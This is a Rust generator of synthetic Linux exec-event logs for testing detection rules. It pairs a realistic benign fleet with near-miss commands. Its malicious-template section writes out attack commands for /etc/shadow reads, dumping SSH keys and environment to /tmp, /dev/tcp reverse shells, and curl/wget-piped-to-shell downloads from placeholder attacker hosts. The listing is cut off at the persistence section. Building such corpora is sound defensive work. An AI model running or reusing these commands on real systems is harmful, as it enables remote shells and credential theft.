//! Deterministic, realistic process-exec events in the seed's schema.
//!
//! Detection rules are mostly substring matchers over `command_line`, so a
//! corpus is only useful for testing them if its benign traffic looks like a
//! real fleet — including commands that come close to an attack without being
//! one — and its attacks look like what an intruder actually types. Everything
//! here is driven by one seeded `SmallRng`, so a seed names a corpus: tests and
//! benchmarks can regenerate it instead of checking large files in.
//!
//! The shape follows what an eBPF exec probe really sees: `arguments` is
//! `argv[1..]` joined by single spaces (quotes typed at a prompt are gone),
//! pipes and redirections only appear inside `sh -c` text (an interactive
//! shell resolves them before exec), `binary` is the kernel's 15-byte `comm`,
//! and every exec gets a fresh pid from its host's counter.

use std::collections::VecDeque;
use std::io::{self, BufWriter, Write};

use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};
use serde_json::{Map, Value};

/// Knobs for an [`EventGenerator`]; equal configs yield identical streams.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GeneratorConfig {
    pub seed: u64,
    /// Attacks per 1000 events (10 = 1 %), at random positions in each
    /// consecutive block of 1000; values above 1000 mean every event.
    pub malicious_per_mille: u32,
    /// Size of the simulated fleet; the first host is always the `pop-os`
    /// laptop so the seed talk's event has a natural home.
    pub hosts: usize,
    pub start_ts_ms: i64,
}

impl Default for GeneratorConfig {
    fn default() -> Self {
        Self {
            seed: 1,
            malicious_per_mille: 10,
            hosts: 12,
            // The seed talk's sample event was recorded at 1695342026084;
            // starting just before it keeps sample files near that moment.
            start_ts_ms: 1_695_342_000_000,
        }
    }
}

/// The seed talk's test log, verbatim: the `/etc/shadow` rule's canonical
/// positive, so end-to-end tests can compare against the original results.
pub fn seed_shadow_event() -> Value {
    serde_json::json!({
        "hostname": "pop-os",
        "ip_address": "127.0.1.1",
        "parent_pid": 1,
        "pid": 2,
        "path": "/usr/bin/sudo",
        "binary": "sudo",
        "arguments": "cat /etc/shadow",
        "command_line": "/usr/bin/sudo cat /etc/shadow",
    })
}

/// Writes `count` events as NDJSON, one compact object per line.
pub fn write_ndjson(cfg: GeneratorConfig, count: usize, writer: impl Write) -> io::Result<()> {
    let mut out = BufWriter::new(writer);
    for event in EventGenerator::new(cfg).take(count) {
        serde_json::to_writer(&mut out, &event)?;
        out.write_all(b"\n")?;
    }
    out.flush()
}

// ---------------------------------------------------------------------------
// Fleet model
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    Web,
    Db,
    Build,
    Laptop,
}

const WEB: u8 = 1;
const DB: u8 = 2;
const BUILD: u8 = 4;
const LAPTOP: u8 = 8;
const SERVERS: u8 = WEB | DB | BUILD;
const DEVS: u8 = BUILD | LAPTOP;
const ANY: u8 = WEB | DB | BUILD | LAPTOP;

impl Role {
    fn bit(self) -> u8 {
        match self {
            Role::Web => WEB,
            Role::Db => DB,
            Role::Build => BUILD,
            Role::Laptop => LAPTOP,
        }
    }

    /// Busier roles exec more, so they get a larger share of the stream.
    fn activity(self) -> u32 {
        match self {
            Role::Web => 3,
            Role::Db => 2,
            Role::Build => 4,
            Role::Laptop => 3,
        }
    }
}

/// Repeating fleet layout; a laptop comes first so host 0 is `pop-os`.
const ROLE_PATTERN: [Role; 12] = [
    Role::Laptop,
    Role::Web,
    Role::Db,
    Role::Build,
    Role::Web,
    Role::Build,
    Role::Laptop,
    Role::Web,
    Role::Db,
    Role::Build,
    Role::Web,
    Role::Laptop,
];

const LAPTOP_USERS: [&str; 5] = ["ana", "sam", "lee", "priya", "tomas"];

/// `pid_max` as systemd sets it on 64-bit hosts; counters wrap like the kernel's.
const PID_MAX: u32 = 4_194_304;

/// Logged-in shells kept per host; older ones are treated as logged out.
const MAX_SESSIONS: usize = 6;

#[derive(Debug)]
struct Host {
    name: String,
    ip: String,
    role: Role,
    home: String,
    next_pid: u32,
    sshd: u32,
    agent: u32,
    /// The role's main long-running process (php-fpm worker, postgres,
    /// gitlab-runner, gnome-terminal-server): parent of what that role spawns.
    service: u32,
    sessions: Vec<u32>,
    pending: VecDeque<Filled>,
    /// Pids emitted so far by the sequence in `pending`, for `Parent::Step`.
    seq_pids: Vec<u32>,
}

impl Host {
    fn new(role: Role, ordinal: usize, rng: &mut SmallRng) -> Self {
        let (name, ip, home) = match role {
            // Debian-family installs map the hostname to 127.0.1.1, which is
            // what the seed's probe recorded for its laptop.
            Role::Laptop => (
                if ordinal == 1 { "pop-os".to_string() } else { format!("pop-os-{ordinal}") },
                "127.0.1.1".to_string(),
                format!("/home/{}", LAPTOP_USERS[(ordinal - 1) % LAPTOP_USERS.len()]),
            ),
            Role::Web => {
                (format!("web-{ordinal:02}"), format!("10.0.1.{}", 10 + ordinal % 240), "/home/deploy".to_string())
            }
            Role::Db => {
                (format!("db-{ordinal:02}"), format!("10.0.2.{}", 10 + ordinal % 240), "/home/deploy".to_string())
            }
            Role::Build => (
                format!("build-{ordinal:02}"),
                format!("10.0.3.{}", 10 + ordinal % 240),
                "/home/gitlab-runner".to_string(),
            ),
        };
        // Laptops run desktops that burn through pids; the seed's laptop was
        // in the 80,000s. Servers with long uptimes sit lower but not tiny.
        let next_pid = match role {
            Role::Laptop => rng.random_range(40_000..90_000),
            _ => rng.random_range(8_000..60_000),
        };
        // Shells that were already open when recording started.
        let mut sessions: Vec<u32> =
            (0..rng.random_range(1..=3)).map(|_| rng.random_range(next_pid / 2..next_pid)).collect();
        sessions.sort_unstable();
        Self {
            name,
            ip,
            role,
            home,
            next_pid,
            sshd: rng.random_range(700..1_300),
            agent: rng.random_range(1_000..4_000),
            service: rng.random_range(1_200..6_000),
            sessions,
            pending: VecDeque::new(),
            seq_pids: Vec::new(),
        }
    }

    fn alloc_pid(&mut self, rng: &mut SmallRng) -> u32 {
        // Threads and forks that never exec also consume pids, so observed
        // exec pids advance in uneven steps rather than by one.
        let step = if rng.random_range(0..10) == 0 { rng.random_range(5..60) } else { rng.random_range(1..5) };
        self.next_pid += step;
        if self.next_pid >= PID_MAX {
            self.next_pid = 300 + step;
        }
        self.next_pid
    }

    fn random_session(&self, rng: &mut SmallRng) -> u32 {
        self.sessions[rng.random_range(0..self.sessions.len())]
    }
}

// ---------------------------------------------------------------------------
// Command templates
// ---------------------------------------------------------------------------

/// Who execs a step. Resolved to a pid only at emission time, so pids stay
/// increasing per host even when sequences interleave.
#[derive(Debug, Clone, Copy)]
enum Parent {
    /// An interactive shell; one is chosen per sequence so related commands
    /// (download, then run) share it.
    Shell,
    /// systemd itself: timers and services.
    Init,
    /// A freshly forked cron child, which never execs and so never appears.
    CronChild,
    Sshd,
    Agent,
    Service,
    /// The pid of an earlier step of the same sequence.
    Step(usize),
    Fixed(u32),
}

#[derive(Debug, Clone, Copy)]
struct Step {
    path: &'static str,
    args: &'static str,
    parent: Parent,
    opens_session: bool,
}

const fn st(path: &'static str, args: &'static str, parent: Parent) -> Step {
    Step { path, args, parent, opens_session: false }
}

/// A login shell: later interactive commands may run under it.
const fn login(path: &'static str, args: &'static str, parent: Parent) -> Step {
    Step { path, args, parent, opens_session: true }
}

#[derive(Debug)]
struct Template {
    roles: u8,
    weight: u32,
    steps: &'static [Step],
}

macro_rules! t {
    ($roles:expr, $weight:expr, [$($step:expr),+ $(,)?]) => {
        Template { roles: $roles, weight: $weight, steps: &[$($step),+] }
    };
}

use Parent::{Agent, CronChild, Init, Service, Shell, Sshd, Step as S};

// Placeholders are written `{=name}` because plain braces, `$` and `<` all
// occur in real shell text. A `#` suffix (`{=crate#2}`) draws a second,
// independent value from the same pool; repeats of one name within a
// sequence resolve to the same value.
static BENIGN: &[Template] = &[
    // --- fleet monitoring: the seed's own `cat /proc/NNN/stat` noise ------
    t!(ANY, 40, [st("/usr/bin/cat", "/proc/{=pid}/stat", Agent)]),
    t!(ANY, 10, [st("/usr/bin/cat", "/proc/loadavg", Agent)]),
    t!(ANY, 6, [st("/usr/bin/df", "-P -B1", Agent)]),
    t!(ANY, 4, [st("/usr/bin/free", "-b", Agent)]),
    // --- interactive basics ----------------------------------------------
    t!(ANY, 10, [st("/usr/bin/ls", "-la", Shell)]),
    t!(ANY, 6, [st("/usr/bin/ls", "-lh {=dir}", Shell)]),
    t!(ANY, 3, [st("/usr/bin/ls", "/tmp/", Shell)]),
    t!(ANY, 6, [st("/usr/bin/ps", "aux", Shell)]),
    t!(ANY, 3, [st("/usr/bin/ps", "-ef --forest", Shell)]),
    t!(ANY, 3, [st("/usr/bin/top", "-b -n 1", Shell)]),
    t!(ANY, 3, [st("/usr/bin/htop", "", Shell)]),
    t!(DEVS, 5, [st("/usr/bin/grep", "-rn {=pattern} src/", Shell)]),
    t!(SERVERS, 4, [st("/usr/bin/grep", "-i error {=log}", Shell)]),
    t!(ANY, 3, [st("/usr/bin/df", "-h", Shell)]),
    t!(SERVERS, 3, [st("/usr/bin/du", "-sh /var/log", Shell)]),
    t!(ANY, 3, [st("/usr/bin/free", "-m", Shell)]),
    t!(ANY, 2, [st("/usr/bin/uptime", "", Shell)]),
    t!(ANY, 2, [st("/usr/bin/whoami", "", Shell)]),
    t!(ANY, 2, [st("/usr/bin/id", "", Shell)]),
    t!(ANY, 2, [st("/usr/bin/uname", "-a", Shell)]),
    t!(ANY, 2, [st("/usr/bin/ip", "addr show", Shell)]),
    t!(SERVERS, 2, [st("/usr/bin/ss", "-tulpn", Shell)]),
    t!(ANY, 2, [st("/usr/bin/ping", "-c 3 {=peer_ip}", Shell)]),
    t!(ANY, 2, [st("/usr/bin/dig", "+short {=domain}", Shell)]),
    t!(SERVERS, 2, [st("/usr/bin/lsof", "-i :{=port}", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/dmesg", "-T --level=err,warn", Shell)]),
    t!(ANY, 1, [st("/usr/bin/lsblk", "", Shell)]),
    t!(ANY, 2, [st("/usr/bin/cat", "/etc/os-release", Shell)]),
    // Account files next to the shadow file: near-misses for that rule.
    t!(ANY, 2, [st("/usr/bin/cat", "/etc/passwd", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/ls", "-l /etc/passwd /etc/group /etc/gshadow", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/awk", "-F: $3 >= 1000 {print $1} /etc/passwd", Shell)]),
    t!(ANY, 1, [st("/usr/bin/getent", "group sudo", Shell)]),
    // Reads of scheduler/unit state: near-misses for the persistence rules.
    t!(ANY, 2, [st("/usr/bin/crontab", "-l", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/cat", "/etc/crontab", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/ls", "-l /etc/systemd/system/multi-user.target.wants/", Shell)]),
    t!(ANY, 4, [st("/usr/bin/systemctl", "status {=svc}", Shell)]),
    t!(SERVERS, 2, [st("/usr/bin/systemctl", "is-enabled {=svc}", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/systemctl", "list-timers --all", Shell)]),
    t!(SERVERS, 4, [st("/usr/bin/journalctl", "-u {=svc} --since 1 hour ago", Shell)]),
    t!(ANY, 1, [st("/usr/bin/journalctl", "-xe", Shell)]),
    // `/proc/net/tcp` is not `/dev/tcp`: a near-miss for reverse shells.
    t!(SERVERS, 1, [st("/usr/bin/cat", "/proc/net/tcp", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/nc", "-zv {=peer} {=port}", Shell)]),
    // --- files and text ----------------------------------------------------
    t!(SERVERS, 4, [st("/usr/bin/tail", "-n 100 {=log}", Shell)]),
    t!(SERVERS, 3, [st("/usr/bin/tail", "-f {=log}", Shell)]),
    t!(SERVERS, 2, [st("/usr/bin/less", "{=log}", Shell)]),
    t!(ANY, 4, [st("/usr/bin/vim", "{=editfile}", Shell)]),
    t!(SERVERS, 2, [st("/usr/bin/nano", "{=editfile}", Shell)]),
    t!(DEVS, 2, [st("/usr/bin/head", "-n 50 data/export-{=date}.csv", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/wc", "-l data/export-{=date}.csv", Shell)]),
    t!(SERVERS, 2, [st("/usr/bin/find", "/ -name *.conf -type f", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/find", "/var/log -name *.gz -mtime +30 -delete", Shell)]),
    t!(ANY, 2, [st("/usr/bin/sed", "-i s/LOG_LEVEL=debug/LOG_LEVEL=info/ .env", Shell)]),
    t!(SERVERS, 2, [st("/usr/bin/tar", "czf backup-{=date}.tar.gz /etc/nginx", Shell)]),
    t!(ANY, 1, [st("/usr/bin/tar", "xzf node_exporter-1.6.1.linux-amd64.tar.gz", Shell)]),
    // Copying into /tmp without a `> /tmp/` redirect.
    t!(ANY, 2, [st("/usr/bin/cp", "{=file} /tmp/{=file}.bak", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/mkdir", "-p /srv/app/releases/{=ver}", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/rm", "-rf target/debug/incremental", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/chmod", "+x deploy.sh", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/mktemp", "-d /tmp/build.XXXXXXXXXX", Shell)]),
    // Encoding and checksums, and decoding to the terminal: base64 without
    // a shell on the receiving end.
    t!(ANY, 1, [st("/usr/bin/base64", "{=binfile}", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/base64", "-w0 {=home}/.ssh/id_ed25519.pub", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/base64", "-d", Shell)]),
    t!(ANY, 1, [st("/usr/bin/sha256sum", "{=binfile}", Shell)]),
    t!(DEVS, 2, [st("/usr/bin/jq", ".items[].metadata.name pods.json", Shell)]),
    t!(SERVERS, 1, [st("/usr/bin/openssl", "x509 -in /etc/ssl/certs/{=cert} -noout -dates", Shell)]),
    t!(ANY, 1, [st("/usr/bin/tmux", "attach -t {=tmux}", Shell)]),
    // --- network clients (downloads that are saved, never piped) ---------
    t!(ANY, 2, [st("/usr/bin/curl", "-s https://api.github.com/repos/{=ghrepo}/releases/latest -o latest.json", Shell)]),
    t!(ANY, 2, [st("/usr/bin/curl", "-sS -o /dev/null -w %{http_code} https://{=domain}/healthz", Shell)]),
    t!(ANY, 1, [st("/usr/bin/wget", "-q https://github.com/prometheus/node_exporter/releases/download/v1.6.1/node_exporter-1.6.1.linux-amd64.tar.gz", Shell)]),
    t!(ANY, 3, [st("/usr/bin/ssh", "{=user}@{=peer} uptime", Shell)]),
    t!(DEVS, 2, [st("/usr/bin/ssh", "deploy@{=peer}", Shell)]),
    t!(DEVS, 2, [st("/usr/bin/scp", "build/app-{=ver}.tar.gz deploy@{=peer}:/srv/releases/", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/rsync", "-avz --delete dist/ deploy@{=peer}:/srv/www/", Shell)]),
    // A vendor installer fetched to a file and then run: two separate
    // events, so curl is never piped into a shell.
    t!(ANY, 1, [
        st("/usr/bin/curl", "-fsSL https://get.docker.com -o get-docker.sh", Shell),
        st("/usr/bin/sudo", "sh get-docker.sh", Shell),
        st("/usr/bin/sh", "get-docker.sh", S(1)),
    ]),
    t!(DEVS, 1, [
        st("/usr/bin/curl", "--proto =https --tlsv1.2 -sSfo rustup-init.sh https://sh.rustup.rs", Shell),
        st("/usr/bin/sh", "rustup-init.sh -y --no-modify-path", Shell),
    ]),
    // --- git ---------------------------------------------------------------
    t!(DEVS, 6, [st("/usr/bin/git", "status", Shell)]),
    t!(DEVS, 3, [st("/usr/bin/git", "log --oneline -n 20", Shell)]),
    t!(DEVS, 3, [st("/usr/bin/git", "diff --stat", Shell)]),
    t!(DEVS, 2, [st("/usr/bin/git", "commit -m {=msg}", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/git", "checkout -b {=branch}", Shell)]),
    t!(DEVS, 3, [
        st("/usr/bin/git", "pull --rebase origin {=branch}", Shell),
        st("/usr/bin/ssh", "-o SendEnv=GIT_PROTOCOL git@github.com git-upload-pack 'acme/{=repo}.git'", S(0)),
    ]),
    t!(DEVS, 2, [
        st("/usr/bin/git", "push origin {=branch}", Shell),
        st("/usr/bin/ssh", "-o SendEnv=GIT_PROTOCOL git@github.com git-receive-pack 'acme/{=repo}.git'", S(0)),
    ]),
    // --- builds --------------------------------------------------------------
    t!(DEVS, 4, [
        st("{=home}/.cargo/bin/cargo", "build --release", Shell),
        st("{=rustc}", "-vV", S(0)),
        st("{=rustc}", "- --crate-name ___ --print=file-names --crate-type bin --crate-type rlib --crate-type dylib --crate-type cdylib --crate-type staticlib --crate-type proc-macro -Csplit-debuginfo=packed", S(0)),
        st("{=rustc}", "--crate-name {=crate} --edition=2021 {=home}/.cargo/registry/src/index.crates.io-6f17d22bba15001f/{=crate}/src/lib.rs --error-format=json --crate-type lib -C opt-level=3 -C embed-bitcode=no", S(0)),
        st("{=rustc}", "--crate-name {=crate#2} --edition=2021 {=home}/.cargo/registry/src/index.crates.io-6f17d22bba15001f/{=crate#2}/src/lib.rs --error-format=json --crate-type lib -C opt-level=3 -C embed-bitcode=no", S(0)),
        st("/usr/bin/cc", "-m64 -fPIC -O3 -c -o {=pwd}/target/release/build/ring-{=hex12}/out/cpu_intel.o crypto/cpu_intel.c", S(0)),
        st("{=rustc}", "--crate-name {=repo} --edition=2021 src/main.rs --error-format=json --crate-type bin -C opt-level=3", S(0)),
    ]),
    t!(DEVS, 2, [
        st("{=home}/.cargo/bin/cargo", "test", Shell),
        st("{=rustc}", "--crate-name {=repo} --edition=2021 src/lib.rs --error-format=json --test -C debuginfo=2", S(0)),
        st("{=pwd}/target/debug/deps/{=repo}-{=hex16}", "", S(0)),
    ]),
    t!(DEVS, 2, [
        st("/usr/bin/make", "-j{=ncpu}", Shell),
        st("/bin/sh", "-c gcc -O2 -Wall -Iinclude -c src/{=cfile}.c -o build/{=cfile}.o", S(0)),
        st("/usr/bin/gcc", "-O2 -Wall -Iinclude -c src/{=cfile}.c -o build/{=cfile}.o", S(1)),
        // gcc's intermediates land in /tmp via -o, never a redirect.
        st("/usr/lib/gcc/x86_64-linux-gnu/11/cc1", "-quiet -Iinclude src/{=cfile}.c -quiet -dumpbase {=cfile}.c -mtune=generic -march=x86-64 -O2 -Wall -o /tmp/cc{=tmp6}.s", S(2)),
        st("/usr/bin/as", "--64 -o build/{=cfile}.o /tmp/cc{=tmp6}.s", S(2)),
    ]),
    t!(BUILD, 2, [
        st("/usr/local/go/bin/go", "build -o bin/{=repo} ./cmd/{=repo}", Shell),
        st("/usr/local/go/pkg/tool/linux_amd64/compile", "-o $WORK/b001/_pkg_.a -trimpath $WORK/b001=> -p main -lang=go1.21 -complete -buildid {=hex16}/{=hex16} -goversion go1.21.1 -c=4 -nolocalimports -importcfg $WORK/b001/importcfg -pack ./main.go", S(0)),
        st("/usr/local/go/pkg/tool/linux_amd64/link", "-o $WORK/b001/exe/a.out -importcfg $WORK/b001/importcfg.link -buildmode=exe -buildid={=hex16} -extld=gcc $WORK/b001/_pkg_.a", S(0)),
    ]),
    t!(DEVS, 2, [
        st("/usr/bin/npm", "ci", Shell),
        st("/bin/sh", "-c node install.js", S(0)),
        st("/usr/bin/node", "install.js", S(1)),
    ]),
    // A CI job on a shell executor: runner → login bash → checkout.
    t!(BUILD, 3, [
        login("/usr/bin/bash", "--login", Service),
        st("/usr/bin/git", "-c http.userAgent=gitlab-runner 16.3.0 linux/amd64 fetch origin +refs/heads/*:refs/remotes/origin/* --prune --quiet", S(0)),
        st("/usr/bin/git", "checkout -f -q {=sha}", S(0)),
        st("/usr/bin/git", "clean -ffdx", S(0)),
    ]),
    // --- python --------------------------------------------------------------
    t!(ANY, 3, [st("/usr/bin/python3", "scripts/{=pyscript}", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/python3", "-m venv .venv", Shell)]),
    t!(DEVS, 2, [st("{=pwd}/.venv/bin/pip", "install -r requirements.txt", Shell)]),
    t!(WEB, 1, [st("/usr/bin/python3", "manage.py migrate --noinput", Shell)]),
    t!(DEVS, 1, [
        st("/usr/bin/ansible-playbook", "-i inventory/prod site.yml --limit {=peer}", Shell),
        st("/usr/bin/ssh", "-C -o ControlMaster=auto -o ControlPersist=60s -o KbdInteractiveAuthentication=no -o User=deploy -o ConnectTimeout=10 {=peer} /bin/sh -c 'echo ~deploy && sleep 0'", S(0)),
    ]),
    // --- containers ----------------------------------------------------------
    t!(SERVERS | LAPTOP, 4, [st("/usr/bin/docker", "ps", Shell)]),
    t!(ANY, 2, [st("/usr/bin/docker", "ps --format {{.Names}}", Shell)]),
    t!(ANY, 2, [st("/usr/bin/docker", "logs --tail 100 {=container}", Shell)]),
    t!(DEVS, 1, [st("/usr/bin/docker", "images", Shell)]),
    t!(ANY, 1, [st("/usr/bin/docker", "exec -it {=container} sh", Shell)]),
    t!(ANY, 2, [
        st("/usr/bin/docker", "compose up -d", Shell),
        st("/usr/libexec/docker/cli-plugins/docker-compose", "compose up -d", S(0)),
    ]),
    t!(DEVS, 4, [st("/usr/local/bin/kubectl", "get pods -n {=ns}", Shell)]),
    t!(DEVS, 2, [st("/usr/local/bin/kubectl", "logs -n {=ns} {=pod} --tail=200", Shell)]),
    t!(DEVS, 1, [st("/usr/local/bin/kubectl", "describe pod {=pod} -n {=ns}", Shell)]),
    t!(DEVS, 1, [
        st("/usr/local/bin/terraform", "plan -out=tfplan", Shell),
        st(".terraform/providers/registry.terraform.io/hashicorp/aws/5.17.0/linux_amd64/terraform-provider-aws_v5.17.0_x5", "", S(0)),
    ]),
    // --- administration via sudo --------------------------------------------
    t!(SERVERS, 3, [
        st("/usr/bin/sudo", "systemctl restart {=svc}", Shell),
        st("/usr/bin/systemctl", "restart {=svc}", S(0)),
    ]),
    t!(ANY, 2, [
        st("/usr/bin/sudo", "apt-get update", Shell),
        st("/usr/bin/apt-get", "update", S(0)),
        st("/usr/lib/apt/methods/http", "", S(1)),
        st("/usr/lib/apt/methods/http", "", S(1)),
        st("/usr/lib/apt/methods/gpgv", "", S(1)),
    ]),
    t!(ANY, 1, [
        st("/usr/bin/sudo", "apt-get install -y {=pkg}", Shell),
        st("/usr/bin/apt-get", "install -y {=pkg}", S(0)),
        st("/usr/bin/dpkg", "--status-fd 35 --configure --pending", S(1)),
    ]),
    t!(WEB, 2, [
        st("/usr/bin/sudo", "nginx -t", Shell),
        st("/usr/sbin/nginx", "-t", S(0)),
    ]),
    t!(ANY, 1, [st("/usr/bin/sudo", "-l", Shell)]),
    // --- logins ----------------------------------------------------------------
    // Ubuntu's stock .bashrc runs lesspipe (which calls basename/dirname)
    // and dircolors: the noise every interactive login leaves behind.
    t!(SERVERS, 4, [
        st("/usr/sbin/sshd", "-D -R", Sshd),
        login("/usr/bin/bash", "", S(0)),
        st("/usr/bin/lesspipe", "", S(1)),
        st("/usr/bin/basename", "/usr/bin/lesspipe", S(2)),
        st("/usr/bin/dirname", "/usr/bin/lesspipe", S(2)),
        st("/usr/bin/dircolors", "-b", S(1)),
    ]),
    t!(LAPTOP, 3, [
        login("/usr/bin/bash", "", Service),
        st("/usr/bin/lesspipe", "", S(0)),
        st("/usr/bin/basename", "/usr/bin/lesspipe", S(1)),
        st("/usr/bin/dirname", "/usr/bin/lesspipe", S(1)),
        st("/usr/bin/dircolors", "-b", S(0)),
    ]),
    t!(LAPTOP, 2, [login("/usr/bin/zsh", "", Service)]),
    t!(LAPTOP, 2, [st("/usr/bin/code", ".", Shell)]),
    t!(LAPTOP, 1, [st("/usr/bin/xdg-open", "report-{=date}.pdf", Shell)]),
    t!(LAPTOP, 1, [st("/usr/bin/flatpak", "update -y", Shell)]),
    // --- cron (Ubuntu's stock jobs, plus the fleet's own) --------------------
    // `> /dev/null` and `> /var/tmp/` redirects are near-misses for the
    // `> /tmp/` rule.
    t!(SERVERS, 4, [
        st("/bin/sh", "-c command -v debian-sa1 > /dev/null && debian-sa1 1 1", CronChild),
        st("/usr/lib/sysstat/debian-sa1", "1 1", S(0)),
        st("/usr/lib/sysstat/sadc", "-F -L -S DISK 1 1 /var/log/sysstat", S(1)),
    ]),
    t!(SERVERS, 2, [
        st("/bin/sh", "-c cd / && run-parts --report /etc/cron.hourly", CronChild),
        st("/usr/bin/run-parts", "--report /etc/cron.hourly", S(0)),
    ]),
    t!(WEB, 2, [st("/bin/sh", "-c [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi", CronChild)]),
    t!(SERVERS, 2, [
        st("/bin/sh", "-c curl -fsS -m 10 --retry 3 -o /dev/null https://hc.example.com/ping/{=uuid}", CronChild),
        st("/usr/bin/curl", "-fsS -m 10 --retry 3 -o /dev/null https://hc.example.com/ping/{=uuid}", S(0)),
    ]),
    // curl piped, but into jq: not a download-and-execute.
    t!(SERVERS, 1, [
        st("/bin/sh", "-c curl -s https://{=domain}/v1/version | jq -r .version > /var/tmp/upstream-version", CronChild),
        st("/usr/bin/curl", "-s https://{=domain}/v1/version", S(0)),
        st("/usr/bin/jq", "-r .version", S(0)),
    ]),
    t!(SERVERS, 1, [
        st("/bin/sh", "-c /opt/scripts/collect_metrics.sh > /var/tmp/metrics.prom 2>&1", CronChild),
        st("/usr/bin/bash", "/opt/scripts/collect_metrics.sh", S(0)),
    ]),
    // `| ssh` contains `| sh`; only a rule that also wants curl/wget
    // (or a word boundary) keeps quiet here.
    t!(WEB, 1, [
        st("/bin/sh", "-c tar czf - /srv/www | ssh backup@{=peer} cat > /backups/www-{=date}.tgz", CronChild),
        st("/usr/bin/tar", "czf - /srv/www", S(0)),
        st("/usr/bin/ssh", "backup@{=peer} cat", S(0)),
    ]),
    t!(DB, 3, [
        st("/bin/sh", "-c pg_dump -U postgres {=db} | gzip > /var/backups/postgres/{=db}-{=date}.sql.gz", CronChild),
        st("/usr/bin/pg_dump", "-U postgres {=db}", S(0)),
        st("/usr/bin/gzip", "", S(0)),
    ]),
    t!(DB, 2, [st("/usr/bin/psql", "-U app -d {=db} -c SELECT count(*) FROM orders WHERE created_at > now() - interval 1 day", Shell)]),
    t!(DB, 2, [st("/usr/bin/pg_isready", "-h localhost -p 5432", Agent)]),
    t!(DB, 1, [st("/usr/bin/redis-cli", "ping", Agent)]),
    // A web app shelling out on its own: a benign `sh -c` under php-fpm.
    t!(WEB, 2, [
        st("/bin/sh", "-c convert /var/www/uploads/{=hex12}.png -resize 200x200 /var/www/thumbs/{=hex12}.png", Service),
        st("/usr/bin/convert", "/var/www/uploads/{=hex12}.png -resize 200x200 /var/www/thumbs/{=hex12}.png", S(0)),
    ]),
    // --- systemd timers ----------------------------------------------------------
    t!(ANY, 2, [
        st("/usr/sbin/logrotate", "/etc/logrotate.conf", Init),
        st("/bin/sh", "-c /usr/lib/rsyslog/rsyslog-rotate logrotate_script /var/log/syslog", S(0)),
        st("/usr/lib/rsyslog/rsyslog-rotate", "", S(1)),
        st("/usr/bin/systemctl", "kill -s HUP rsyslog.service", S(2)),
    ]),
    t!(WEB, 1, [
        st("/usr/bin/certbot", "-q renew", Init),
        st("/bin/sh", "-c systemctl reload nginx", S(0)),
        st("/usr/bin/systemctl", "reload nginx", S(1)),
    ]),
    t!(ANY, 1, [st("/usr/bin/systemd-tmpfiles", "--clean", Init)]),
    t!(ANY, 1, [st("/usr/sbin/updatedb.plocate", "", Init)]),
    t!(ANY, 1, [st("/usr/lib/apt/apt.systemd.daily", "update", Init)]),
    t!(ANY, 1, [st("/usr/sbin/fstrim", "--listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported", Init)]),
];

// Attack catalogue, one list per rule idea; every entry trips at least its
// own idea. Attacker infrastructure uses documentation ranges (RFC 5737) and
// example domains. The seed talk's exact `/usr/bin/sudo cat /etc/shadow` is
// deliberately absent so that line stays unique to `next_seed_shadow_event`.
// Each list has entries for every role, so any host can be the victim.
static MALICIOUS: [&[Template]; 6] = [
    // Credential access: /etc/shadow.
    &[
        t!(ANY, 3, [st("/usr/bin/cat", "/etc/shadow", Shell)]),
        t!(ANY, 2, [st("/usr/bin/sudo", "head -n 20 /etc/shadow", Shell)]),
        t!(ANY, 2, [st("/usr/bin/cp", "/etc/shadow /tmp/.s", Shell)]),
        t!(ANY, 1, [st("/usr/sbin/unshadow", "/etc/passwd /etc/shadow", Shell)]),
        t!(WEB, 2, [st("/bin/sh", "-c cat /etc/shadow > /tmp/.{=rand6}", Service)]),
    ],
    // Staging output in /tmp.
    &[
        t!(ANY, 3, [st("/bin/sh", "-c ps aux > /tmp/procs.txt", Shell)]),
        t!(ANY, 2, [st("/bin/sh", "-c env > /tmp/.env_dump", Shell)]),
        t!(ANY, 2, [st("/usr/bin/bash", "-c cat ~/.ssh/id_rsa > /tmp/.k", Shell)]),
        t!(WEB, 2, [st("/bin/sh", "-c netstat -antp > /tmp/.n; ip a >> /tmp/.n", Service)]),
    ],
    // Reverse shells.
    &[
        t!(ANY, 3, [st("/bin/bash", "-c bash -i >& /dev/tcp/{=atk_ip}/{=atk_port} 0>&1", Shell)]),
        t!(
            WEB,
            2,
            [st(
                "/bin/sh",
                "-c exec 5<>/dev/tcp/{=atk_ip}/{=atk_port}; cat <&5 | while read line; do $line 2>&5 >&5; done",
                Service
            )]
        ),
        t!(
            ANY,
            1,
            [st("/usr/bin/bash", "-c 0<&196;exec 196<>/dev/tcp/{=atk_ip}/{=atk_port}; sh <&196 >&196 2>&196", Shell)]
        ),
    ],
    // Download and execute.
    &[
        t!(ANY, 3, [st("/bin/sh", "-c curl -fsSL http://{=atk_ip}/x.sh | sh", Shell)]),
        t!(WEB, 2, [st("/bin/sh", "-c wget -qO- http://{=atk_domain}/a | bash", Service)]),
        t!(ANY, 2, [st("/bin/bash", "-c curl -s http://{=atk_domain}/install.sh | sudo bash", Shell)]),
        // A miner's cron re-infection loop, hence the cron parent.
        t!(SERVERS, 1, [st("/bin/sh", "-c wget -q -O - http://{=atk_ip}:8080/m.sh | sh -s -- --silent", CronChild)]),
    ],
    // Persistence via cron or systemd.
